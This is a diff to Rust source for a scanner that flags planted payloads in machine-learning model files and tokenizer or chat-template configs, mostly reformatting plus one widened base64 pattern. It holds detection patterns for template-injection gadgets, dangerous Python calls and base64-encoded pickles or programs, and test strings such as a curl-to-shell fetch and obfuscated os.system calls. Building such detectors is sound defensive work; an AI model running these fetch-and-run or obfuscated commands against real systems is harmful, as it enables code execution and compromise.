@@ -74,7 +74,7 @@ const EXPRESSION: &str = r"(?x)
     \{[\{%][^}\x00]{0,300}?(?:__globals__|__subclasses__|__builtins__|__mro__|__import__|__class__)
 ";
 /// Base64 of pickles, programs, compressed text, code objects, and words that begin source.
-const PAYLOAD: &str = r"(?:gASV|gANj|gANd|gAJj|gAJd|gAJ9|gAN9|gAR9|gAWV|Y29z|f0VMRgI|f0VMRgE|TVqQ|H4sI|eJx|eJw|eNo|4wAAA|aW1wb3J0|ZXhlYy|ZXZhbC|X19pbXBvcnRf|Y3VybC|IyEv|cHl0aG9u|aQBtAHAAbwByAHQA|ZQB4AGUAYwAo)[A-Za-z0-9+/]{16,}={0,2}";
+const PAYLOAD: &str = r"(?:gASV|gANj|gANd|gAJj|gAJd|gAJ9|gAN9|gAR9|gAWV|Y29z|f0VMRgI|f0VMRgE|TVqQ|H4sI|eJ[w-z]|eNo|4wAAA|aW1wb3J0|ZXhlYy|ZXZhbC|X19pbXBvcnRf|Y3VybC|IyEv|cHl0aG9u|aQBtAHAAbwByAHQA|ZQB4AGUAYwAo)[A-Za-z0-9+/]{16,}={0,2}";
 
 /// Whether a text is a command that fetches and runs something, or source that starts a program.
 pub(super) fn is_command(text: &[u8]) -> bool {
@@ -104,9 +104,34 @@ static PAYLOADS: LazyLock<Regex> = LazyLock::new(|| regex(PAYLOAD, false));
 
 /// Formats of models, whose texts describe weights.
 const MODELS: &[&str] = &[
-    "caffe", "catboost", "coreml", "executorch", "flax", "ggml", "gguf", "hdf5", "keras-config", "lightgbm", "mxnet", "npy",
-    "onnx", "openvino", "paddle", "paddle-params", "pickle", "pmml", "rds", "rknn", "safetensors", "sentencepiece",
-    "tensorflow", "tensorrt", "tf-checkpoint", "tflite", "torch7", "xgboost",
+    "caffe",
+    "catboost",
+    "coreml",
+    "executorch",
+    "flax",
+    "ggml",
+    "gguf",
+    "hdf5",
+    "keras-config",
+    "lightgbm",
+    "mxnet",
+    "npy",
+    "onnx",
+    "openvino",
+    "paddle",
+    "paddle-params",
+    "pickle",
+    "pmml",
+    "rds",
+    "rknn",
+    "safetensors",
+    "sentencepiece",
+    "tensorflow",
+    "tensorrt",
+    "tf-checkpoint",
+    "tflite",
+    "torch7",
+    "xgboost",
 ];
 
 impl Inspector for Planted {
@@ -130,7 +155,10 @@ impl Inspector for Planted {
             if left == 0 {
                 break;
             }
-            if matches!(leaf.role, Role::Tensor | Role::Padding | Role::Payload | Role::Code | Role::Signature) {
+            if matches!(
+                leaf.role,
+                Role::Tensor | Role::Padding | Role::Payload | Role::Code | Role::Signature
+            ) {
                 continue;
             }
             let text = read(artifact, leaf.span, left);
@@ -145,15 +173,27 @@ fn describes(artifact: &Closing<'_>) -> bool {
     if MODELS.contains(&artifact.format) {
         return true;
     }
-    let name = artifact.name.rsplit(|b| matches!(*b, b'/' | b'\\')).next().unwrap_or_default();
+    let name = artifact
+        .name
+        .rsplit(|b| matches!(*b, b'/' | b'\\'))
+        .next()
+        .unwrap_or_default();
     let template = name.ends_with(b".jinja") || name.starts_with(b"tokenizer.chat_template");
     match artifact.format {
         _ if template => true,
         "json" => {
-            let named = [&b"tokenizer"[..], b"special_tokens", b"added_tokens", b"chat_template", b"vocab"];
+            let named = [
+                &b"tokenizer"[..],
+                b"special_tokens",
+                b"added_tokens",
+                b"chat_template",
+                b"vocab",
+            ];
             named.iter().any(|n| name.starts_with(n))
                 || matches!(name, b"config.json" | b"adapter_config.json" | b"modules.json")
-                || [&b"_config.json"[..], b"-symbol.json", b"_symbol.json"].iter().any(|n| name.ends_with(n))
+                || [&b"_config.json"[..], b"-symbol.json", b"_symbol.json"]
+                    .iter()
+                    .any(|n| name.ends_with(n))
                 || is_model_document(&artifact.bytes(0, 4096))
         }
         "text" => artifact.bytes(0, 64).starts_with(b"tree\nversion="),
@@ -163,7 +203,13 @@ fn describes(artifact: &Closing<'_>) -> bool {
 
 /// Keys that only models in JSON begin with: XGBoost, CatBoost, ONNX, MXNet.
 fn is_model_document(head: &[u8]) -> bool {
-    const KEYS: [&[u8]; 5] = [b"\"learner\"", b"\"oblivious_trees\"", b"\"irVersion\"", b"\"arg_nodes\"", b"\"model_info\""];
+    const KEYS: [&[u8]; 5] = [
+        b"\"learner\"",
+        b"\"oblivious_trees\"",
+        b"\"irVersion\"",
+        b"\"arg_nodes\"",
+        b"\"model_info\"",
+    ];
     KEYS.iter().any(|key| memchr::memmem::find(head, key).is_some())
 }
 
@@ -186,8 +232,16 @@ fn read(artifact: &Closing<'_>, span: Span, most: u64) -> Vec<u8> {
 fn search(text: &[u8], base: u64, injects: bool, told: &mut BTreeSet<(&'static str, String)>, out: &mut Findings) {
     let searches: [(&'static str, &Regex, &str); 3] = [
         ("command", &COMMANDS, "a command or source that runs something"),
-        ("instruction", &INSTRUCTIONS, "words that instruct a model against its user"),
-        ("expression", &EXPRESSIONS, "a template expression that leads to the interpreter"),
+        (
+            "instruction",
+            &INSTRUCTIONS,
+            "words that instruct a model against its user",
+        ),
+        (
+            "expression",
+            &EXPRESSIONS,
+            "a template expression that leads to the interpreter",
+        ),
     ];
     for (case, regex, what) in searches {
         if case == "expression" && injects {
@@ -203,7 +257,14 @@ fn search(text: &[u8], base: u64, injects: bool, told: &mut BTreeSet<(&'static s
     for found in PAYLOADS.find_iter(text) {
         let words = text.get(found.range()).unwrap_or_default();
         if let Some(what) = packed(words)
-            && !say("payload", words, what, place(base, found.start(), words.len()), told, out)
+            && !say(
+                "payload",
+                words,
+                what,
+                place(base, found.start(), words.len()),
+                told,
+                out,
+            )
         {
             break;
         }
@@ -232,7 +293,11 @@ fn say(
     if told.insert((case, excerpt.clone())) {
         let message = format!("the model carries {what}: {excerpt}");
         let finding = Finding::new(code::PLANTED_TEXT, span, message).case(case);
-        out.push(finding.evidence("text", excerpt.clone()).key(format!("{case} {excerpt}")));
+        out.push(
+            finding
+                .evidence("text", excerpt.clone())
+                .key(format!("{case} {excerpt}")),
+        );
     }
     true
 }
@@ -275,14 +340,26 @@ fn inflate(reader: impl Read) -> Vec<u8> {
 /// Whether the bytes are a program, serialised code that calls something dangerous, or a command.
 fn runs(bytes: &[u8]) -> Option<&'static str> {
     const NAMES: [&[u8]; 12] = [
-        b"system", b"exec", b"eval", b"Popen", b"__import__", b"getattr", b"loads", b"spawn", b"subprocess", b"runpy",
-        b"import_module", b"socket",
+        b"system",
+        b"exec",
+        b"eval",
+        b"Popen",
+        b"__import__",
+        b"getattr",
+        b"loads",
+        b"spawn",
+        b"subprocess",
+        b"runpy",
+        b"import_module",
+        b"socket",
     ];
     let names = || NAMES.iter().any(|name| memchr::memmem::find(bytes, name).is_some());
     match bytes {
         [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..] => Some("a program in base64"),
         [b'M', b'Z', ..] if memchr::memmem::find(bytes, b"PE\0\0").is_some() => Some("a program in base64"),
-        [0x80, 2..=5, ..] | [b'c', b'o', b's', b'\n', ..] if names() => Some("a pickle in base64 that calls something dangerous"),
+        [0x80, 2..=5, ..] | [b'c', b'o', b's', b'\n', ..] if names() => {
+            Some("a pickle in base64 that calls something dangerous")
+        }
         [0xe3 | 0x63, 0, 0, 0, 0, ..] if names() => Some("compiled code in base64"),
         _ if COMMANDS.is_match(bytes) || bytes.starts_with(b"exec(") || bytes.starts_with(b"import os") => {
             Some("a command or source in base64")
@@ -326,7 +403,10 @@ mod tests {
             ("curl http://192.0.2.1/x | sh", &["command"]),
             ("vzcbeg bf; bf.flfgrz('gehr')", &["command"]),
             (")'eurt'(metsys.so ;so tropmi", &["command"]),
-            ("aQBtAHAAbwByAHQAIABvAHMAOwBvAHMALgBzAHkAcwB0AGUAbQAoADEAKQA=", &["payload"]),
+            (
+                "aQBtAHAAbwByAHQAIABvAHMAOwBvAHMALgBzAHkAcwB0AGUAbQAoADEAKQA=",
+                &["payload"],
+            ),
             ("#!/bin/sh\ntrue # inert\n", &["command"]),
             ("subprocess.run(['true'])", &["command"]),
             ("eval(compile(x, 'y', 'exec'))", &["command"]),
